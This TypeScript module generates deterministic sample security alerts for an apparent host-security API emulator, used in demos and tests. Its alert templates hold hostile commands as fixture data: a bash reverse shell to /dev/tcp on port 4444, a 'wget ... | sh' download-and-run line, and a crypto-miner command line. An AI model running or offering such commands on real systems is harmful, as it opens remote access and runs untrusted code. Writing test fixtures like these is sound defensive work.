import { seededRandom } from '../random.js';
import type { SuspEventLevel, SuspEventRecord } from './susp-event.js';

interface AlertTemplate {
  readonly type: string;
  readonly name: string;
  readonly display: string;
  readonly level: SuspEventLevel;
  readonly details: readonly (readonly [label: string, value: string])[];
}

const TEMPLATES: readonly [AlertTemplate, ...AlertTemplate[]] = [
  {
    type: 'Unusual Logon',
    name: 'login_common_location',
    display: 'Login with unusual location',
    level: 'remind',
    details: [
      ['Login source IP', '198.51.100.23'],
      ['Login user', 'root'],
    ],
  },
  {
    type: 'Unusual Logon',
    name: 'login_brute_force_success',
    display: 'Successful login after brute-force attack',
    level: 'serious',
    details: [
      ['Login source IP', '198.51.100.77'],
      ['Login user', 'admin'],
    ],
  },
  {
    type: 'Webshell',
    name: 'webshell_php',
    display: 'PHP webshell file',
    level: 'serious',
    details: [
      ['File path', '/var/www/html/upload/shell.php'],
      ['File MD5', '3f1d5e0b7c2a9d84e6b0c1f27a953e4d'],
    ],
  },
  {
    type: 'Malicious process',
    name: 'malicious_process_miner',
    display: 'Mining program',
    level: 'serious',
    details: [
      ['Process path', '/tmp/.x/kworkerds'],
      ['Command line', '/tmp/.x/kworkerds -o pool.example.net:3333 --background'],
      ['File MD5', 'a7c3e91f04b2d6587e0f1c9b3d2a6e85'],
    ],
  },
  {
    type: 'Suspicious process',
    name: 'reverse_shell',
    display: 'Reverse shell command',
    level: 'serious',
    details: [
      ['Command line', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'],
      ['Process path', '/usr/bin/bash'],
    ],
  },
  {
    type: 'Suspicious process',
    name: 'suspicious_download',
    display: 'Suspicious download command',
    level: 'suspicious',
    details: [
      ['Command line', 'wget http://198.51.100.41/x.sh -O- | sh'],
      ['Process path', '/usr/bin/wget'],
    ],
  },
  {
    type: 'Suspicious network connection',
    name: 'outbound_port_scan',
    display: 'Outbound port scan',
    level: 'suspicious',
    details: [['Target', '192.0.2.0/24']],
  },
  {
    type: 'Suspicious account',
    name: 'new_privileged_account',
    display: 'New account with root privileges',
    level: 'suspicious',
    details: [['Account', 'sysadm']],
  },
  {
    type: 'Sensitive file tampering',
    name: 'crontab_modified',
    display: 'Scheduled task modified',
    level: 'remind',
    details: [['File path', '/etc/crontab']],
  },
];

const NEWEST = Date.UTC(2026, 0, 15, 8, 0, 0);
const FIRST_ID = 7_009_600;

/**
 * Realistic alert events for demos and tests, the same for the same `count` and `seed`: mixed
 * levels (serious, suspicious, remind) and types (Unusual Logon, Webshell, Malicious process, ...),
 * addresses in documentation ranges (`203.0.113.x` public, `10.x.x.x` private), all pending, newest first.
 * Each event has its own host (`Uuid`) and `Details` (login source IP and user, file path and MD5,
 * process path and command line, ...) from which the emulator offers whitelist fields.
 *
 * @example
 * ```ts
 * const emulator = await startEmulator({ alerts: sampleAlerts(45, 'demo') });
 * ```
 */
export function sampleAlerts(count: number, seed: string | number = 'alerts'): SuspEventRecord[] {
  const random = seededRandom(seed);
  const pick = (size: number): number => Math.floor(random() * size);
  let lastTime = NEWEST;
  return Array.from({ length: count }, (_, index) => {
    const template = TEMPLATES[pick(TEMPLATES.length)] ?? TEMPLATES[0];
    lastTime -= 60_000 + pick(3_600_000);
    const firstTime = lastTime - pick(86_400_000);
    const id = FIRST_ID + count - index;
    const host = pick(254) + 1;
    const hex = (length: number): string => Array.from({ length }, () => pick(16).toString(16)).join('');
    return {
      Id: id,
      Level: template.level,
      EventStatus: 1,
      AlarmEventName: template.name,
      AlarmEventNameDisplay: template.display,
      AlarmEventType: template.type,
      AlarmEventTypeDisplay: template.type,
      Name: `${template.type}-${template.display}`,
      EventSubType: template.name,
      AlarmUniqueInfo: hex(32),
      UniqueInfo: hex(32),
      SecurityEventIds: String(id),
      InternetIp: `203.0.113.${host}`,
      IntranetIp: `10.${pick(256)}.${pick(256)}.${host}`,
      Uuid: `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`,
      InstanceId: `i-emu${hex(16)}`,
      InstanceName: `web-${String(host).padStart(3, '0')}`,
      OccurrenceTime: formatTime(firstTime),
      OccurrenceTimeStamp: firstTime,
      LastTime: formatTime(lastTime),
      LastTimeStamp: lastTime,
      CanBeDealOnLine: true,
      Advanced: false,
      SaleVersion: '1',
      Desc: template.display,
      Details: template.details.map(([label, value]) => ({
        NameDisplay: label,
        Type: 'text',
        Value: value,
        ValueDisplay: value,
      })),
      EventNotes: [],
      MarkList: [],
    };
  });
}

function formatTime(epochMs: number): string {
  return new Date(epochMs).toISOString().slice(0, 19).replace('T', ' ');
}
